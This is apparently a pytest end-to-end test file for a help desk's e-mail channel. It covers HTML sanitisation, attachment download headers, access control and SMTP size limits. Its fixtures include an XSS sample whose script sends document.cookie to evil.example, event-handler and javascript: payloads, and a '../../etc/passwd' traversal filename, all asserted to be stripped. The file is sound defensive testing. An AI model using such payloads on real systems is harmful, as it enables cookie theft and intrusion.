"""EML1 through real sockets: mail sent with smtplib to the SMTP listener of a server served by
uvicorn on a loopback port, read and downloaded over real HTTP. An e-mail shows its text (the
plain part, or the HTML read as text), its HTML only sanitised, and its attachments download
byte-exact, as attachments, for those who may read the interaction only (SEC1, SEC5); mail
over `max_message_bytes` is refused at SMTP time and leaves nothing behind."""

from __future__ import annotations

import asyncio
import contextlib
import smtplib
from email import policy
from email.message import EmailMessage
from urllib.parse import unquote

import httpx
import pytest
from sqlmodel import func, select

from core.config import PluginEntry, load_config
from core.interactions.models import Interaction
from schema.app import create_app
from tests.channels.mail_support import send_mail
from tests.support.client import GraphQLClient
from tests.e2e.desk import BY_ID, CONSULT, LOG_IN, ok, open_offer, target_id
from tests.support.servers import serve_in_loop
from tests.support.ws import Collector, ws_session

MAX_BYTES = 60_000
LINES = """query($id: ID!) { transcript(interactionId: $id, first: 10) { edges { node {
  text html fromCustomer details attachments { id name contentType size downloadUrl } } } } }"""
MINE = "{ myInteractions { edges { node { id offers { id state } } } } }"
HOSTILE_HTML = """<html><head><title>Facture</title><style>body { background: url(https://tracker.example/bg) }</style>
<script>fetch('https://evil.example/?c=' + document.cookie)</script></head>
<body onload="steal()"><p>Bonjour,</p><p>ma facture de <b>novembre</b>&nbsp;est fausse.<br>Merci.</p>
<img src="https://tracker.example/pixel.gif" onerror="alert(1)" alt="logo">
<a href="javascript:alert(document.domain)">Voir</a> <a href="https://example.org/facture" onclick="x()">la facture</a>
<iframe src="https://evil.example/"></iframe><svg onload="alert(2)"></svg></body></html>"""


@pytest.fixture
def config(settings, smtp_port):
    config = load_config(settings.plugins_file)
    config.plugins["email"] = PluginEntry("email", True, {
        **config.plugins["email"].options, "smtp_port": smtp_port, "max_message_bytes": MAX_BYTES})
    return config


@contextlib.asynccontextmanager
async def real_server(backline):
    """The app on a loopback port, and a way to log users in over real HTTP."""
    async with serve_in_loop(create_app(backline)) as base, httpx.AsyncClient(base_url=base, timeout=10) as http:
        async def login(username: str) -> GraphQLClient:
            return await GraphQLClient(http).login(username)

        yield http, login


def mail(text: str | None = None, html: str | None = None, attachments=(), message_id="<eml1@example.org>",
         in_reply_to: str | None = None) -> EmailMessage:
    message = EmailMessage()
    message["From"] = "Léon Blum <leon.blum@example.org>"
    message["To"] = "support@backline.example"
    message["Subject"] = "Facture 2026-11"
    message["Message-ID"] = message_id
    if in_reply_to:
        message["In-Reply-To"] = in_reply_to
    if text is not None:
        message.set_content(text)
        if html is not None:
            message.add_alternative(html, subtype="html")
    elif html is not None:
        message.set_content(html, subtype="html")
    for name, content_type, data in attachments:
        maintype, subtype = content_type.split("/")
        if isinstance(data, str):  # a text file
            message.add_attachment(data, subtype=subtype, filename=name)
        else:
            message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return message


async def received(login, smtp_port: int, message: EmailMessage) -> tuple[GraphQLClient, dict, dict]:
    """Françoise, ready on e-mail, accepts the mail; returns her, the interaction and its line."""
    francoise = await login("francoise.gauthier")
    await francoise.execute(LOG_IN, {"c": "email"})
    await send_mail(smtp_port, message)
    [ringing] = [edge["node"] for edge in (await francoise.execute(MINE))["myInteractions"]["edges"]]
    email = await ok(francoise, BY_ID["acceptOffer"], id=open_offer(ringing)["id"])
    [line] = [edge["node"] for edge in (await francoise.execute(LINES, {"id": email["id"]}))["transcript"]["edges"]]
    return francoise, email, line


async def get(http: httpx.AsyncClient, url: str, token: str | None) -> httpx.Response:
    return await http.get(url, headers={"Authorization": f"Bearer {token}"} if token else {})


async def test_eml1_an_html_only_mail_shows_its_text_not_its_markup(backline, smtp_port):
    async with real_server(backline) as (http, login):
        _, _, line = await received(login, smtp_port, mail(html=HOSTILE_HTML))
    assert line["text"] == "Bonjour,\n\nma facture de novembre est fausse.\nMerci.\n\n" \
                           "[logo] Voir la facture (https://example.org/facture)"
    assert "<" not in line["text"] and "steal" not in line["text"] and "document.cookie" not in line["text"]
    assert line["attachments"] == []  # the HTML body is not an attachment


async def test_eml1_a_multipart_alternative_mail_shows_its_plain_part(backline, smtp_port):
    plain = "Bonjour,\nle texte brut de la facture."
    async with real_server(backline) as (http, login):
        _, _, line = await received(login, smtp_port, mail(text=plain, html="<p>Le <b>HTML</b> de la facture</p>"))
    assert line["text"] == plain
    assert line["html"] == "<p>Le <b>HTML</b> de la facture</p>"
    assert line["attachments"] == [] and line["details"]["attachments"] == []


async def test_eml1_a_reply_arrives_live_with_its_html_and_its_attachments(backline, smtp_port):
    follow = """subscription($id: ID!) { transcriptLines(interactionId: $id) {
      text html attachments { name size downloadUrl } } }"""
    reply = mail(html="<p>Voici <b>le justificatif</b><script>x()</script></p>", message_id="<eml1-2@example.org>",
                 in_reply_to="<eml1@example.org>", attachments=[("reçu.png", "image/png", b"\x89PNG\r\n\x1a\n")])
    async with real_server(backline) as (http, login):
        francoise, email, _ = await received(login, smtp_port, mail(text="Première"))
        async with ws_session(str(http.base_url).rstrip("/"), francoise.token) as session:
            live = Collector(session, follow, {"id": email["id"]})
            try:
                await live.wait_for(1)  # the line so far: the stream is running
                await send_mail(smtp_port, reply)
                item = (await live.wait_for(2))[1]["transcriptLines"]
            finally:
                await live.close()
        [attached] = item["attachments"]
        downloaded = await get(http, attached["downloadUrl"], francoise.token)
    assert (item["text"], item["html"]) == ("Voici le justificatif", "<p>Voici <b>le justificatif</b></p>")
    assert (attached["name"], attached["size"]) == ("reçu.png", 8)
    assert downloaded.content == b"\x89PNG\r\n\x1a\n" and downloaded.headers["content-type"] == "image/png"


async def test_eml1_a_text_longer_than_a_line_is_kept_cut_and_marked_not_refused(backline, smtp_port):
    words = "".join(f"<p>Ligne {i} de la longue facture.</p>" for i in range(1000))  # ~30 000 characters of text
    async with real_server(backline) as (http, login):
        _, _, line = await received(login, smtp_port, mail(html=f"<html><body>{words}</body></html>"))
    assert line["text"].startswith("Ligne 0 de la longue facture.\n\nLigne 1 ")
    assert len(line["text"]) <= 20_000 and line["details"]["textTruncated"] is True  # max_reply_chars
    assert line["html"].endswith("<p>Ligne 999 de la longue facture.</p>")  # the whole mail is still there


async def test_eml1_the_html_is_kept_only_sanitised(backline, smtp_port):
    async with real_server(backline) as (http, login):
        _, _, line = await received(login, smtp_port, mail(html=HOSTILE_HTML))
    html = line["html"]
    assert "<p>Bonjour,</p>" in html and "<b>novembre</b>" in html
    for forbidden in ("<script", "document.cookie", "<style", "onload", "onerror", "onclick", "javascript:",
                      "<iframe", "<svg", "tracker.example", "evil.example", "src="):
        assert forbidden not in html, forbidden
    # A link stays a link, opened without giving the desk's page to the sender's site.
    assert '<a href="https://example.org/facture" rel="noopener noreferrer nofollow">la facture</a>' in html
    assert '<img alt="logo">' in html  # an image loads nothing remote


async def test_eml1_an_attachment_downloads_byte_exact_as_an_attachment_for_its_readers(backline, smtp_port):
    data = bytes(range(256)) * 40  # every byte value, 10 240 bytes
    name = 'Facture été "n°2"; 2026.pdf'
    async with real_server(backline) as (http, login):
        francoise, email, line = await received(login, smtp_port, mail(text="Ci-joint.", attachments=[
            (name, "application/pdf", data), ("../../etc/passwd", "text/plain", "root:x:0:0\n")]))
        [attached, text_file] = line["attachments"]
        assert (attached["name"], attached["contentType"], attached["size"]) == (name, "application/pdf", len(data))
        assert attached["downloadUrl"] == f"/attachments/{attached['id']}"
        assert (text_file["name"], text_file["contentType"]) == ("passwd", "text/plain")  # no folders
        # CON3: a member consulted about the e-mail reads it, its files too.
        await francoise.execute(LOG_IN, {"c": "im"})
        eloise = await login("eloise.tremblay")
        await eloise.execute(LOG_IN, {"c": "im"})
        consultation = await ok(francoise, CONSULT, id=email["id"], t=await target_id(backline, "Éloïse Tremblay"),
                                c="im")
        await ok(eloise, BY_ID["acceptOffer"], id=open_offer(consultation)["id"])
        readers = [francoise, eloise, await login("lead.montreal"), await login("admin")]  # + team lead, admin
        responses = [await get(http, attached["downloadUrl"], reader.token) for reader in readers]
        text_download = await get(http, text_file["downloadUrl"], francoise.token)
    # A text part travels in MIME's canonical form, CRLF line ends: those are its bytes.
    assert text_download.content == b"root:x:0:0\r\n" and text_download.headers["content-type"] == "text/plain"
    assert text_download.headers["content-disposition"] == "attachment; filename=\"passwd\"; filename*=UTF-8''passwd"
    for response in responses:
        assert response.status_code == 200 and response.content == data
        assert response.headers["content-type"] == "application/pdf"
        assert response.headers["x-content-type-options"] == "nosniff"
        disposition = response.headers["content-disposition"]
        assert disposition.startswith('attachment; filename="Facture _t_ _n_2_; 2026.pdf"; ')
        assert unquote(disposition.split("filename*=UTF-8''")[1]) == name
        assert "sandbox" in response.headers["content-security-policy"]
        assert "no-store" in response.headers["cache-control"]


async def test_eml1_a_colleague_who_may_not_read_the_interaction_gets_404_like_an_unknown_id(backline, smtp_port):
    async with real_server(backline) as (http, login):
        francoise, _, line = await received(
            login, smtp_port, mail(text="Ci-joint.", attachments=[("f.pdf", "application/pdf", b"%PDF-1.4 secret")]))
        [attached] = line["attachments"]
        unknown_id = str(int(attached["id"]) + 1000)
        eloise = await login("eloise.tremblay")  # same team, not on the interaction
        lead = await login("lead")  # leads another team
        refused = [await get(http, attached["downloadUrl"], reader.token) for reader in (eloise, lead)]
        unknown = await get(http, f"/attachments/{unknown_id}", eloise.token)
        garbage = await get(http, "/attachments/..%2Fetc", eloise.token)
        assert (await get(http, attached["downloadUrl"], francoise.token)).status_code == 200
    assert unknown.status_code == 404
    for response in refused:
        assert response.status_code == 404 and b"secret" not in response.content
        assert response.json() == {**unknown.json(), "message": unknown.json()["message"].replace(
            unknown_id, attached["id"])}
        assert set(response.headers) - {"date"} == set(unknown.headers) - {"date"}
    assert garbage.status_code == 404


async def test_eml1_a_download_without_a_valid_token_gets_401(backline, smtp_port):
    async with real_server(backline) as (http, login):
        _, _, line = await received(
            login, smtp_port, mail(text="Ci-joint.", attachments=[("f.pdf", "application/pdf", b"%PDF-1.4 secret")]))
        url = line["attachments"][0]["downloadUrl"]
        missing = await get(http, url, None)
        wrong = await get(http, url, "not-a-token")
        basic = await http.get(url, headers={"Authorization": "Basic ZnJhbmNvaXNlOmRlbW8="})
    for response in (missing, wrong, basic):
        assert response.status_code == 401 and b"secret" not in response.content
        assert response.headers["www-authenticate"] == "Bearer"
        assert response.json()["code"] == "UNAUTHENTICATED"


async def test_eml1_mail_over_max_message_bytes_is_refused_at_smtp_time_and_mail_under_it_keeps_every_byte(
        backline, smtp_port):
    big = mail(text="Trop gros.", attachments=[("big.bin", "application/octet-stream", b"\x01" * MAX_BYTES)])
    fits = bytes(range(256)) * 150  # 38 400 bytes, ~52 000 once base64-encoded

    def undeclared(message: EmailMessage) -> tuple[int, bytes]:
        # No ESMTP SIZE declared at MAIL FROM: the listener counts while the data comes.
        with smtplib.SMTP("127.0.0.1", smtp_port, timeout=10) as client:
            client.ehlo()
            client.mail("leon.blum@example.org")
            client.rcpt("support@backline.example")
            return client.data(message.as_bytes(policy=policy.SMTP))  # CRLF lines, as on the wire

    async with real_server(backline) as (http, login):
        code, answer = await asyncio.to_thread(undeclared, big)
        assert code == 552, answer
        from core.transcripts.models import TranscriptAttachment  # (here: the test fails, not its module)

        async with backline.store.read() as session:
            assert (await session.exec(select(func.count()).select_from(TranscriptAttachment))).one() == 0
            assert (await session.exec(select(func.count()).select_from(Interaction)
                                       .where(Interaction.channel == "email"))).one() == 0
        francoise, _, line = await received(
            login, smtp_port, mail(text="Ci-joint.", attachments=[("ok.bin", "application/octet-stream", fits)]))
        downloaded = await get(http, line["attachments"][0]["downloadUrl"], francoise.token)
    assert downloaded.status_code == 200 and downloaded.content == fits
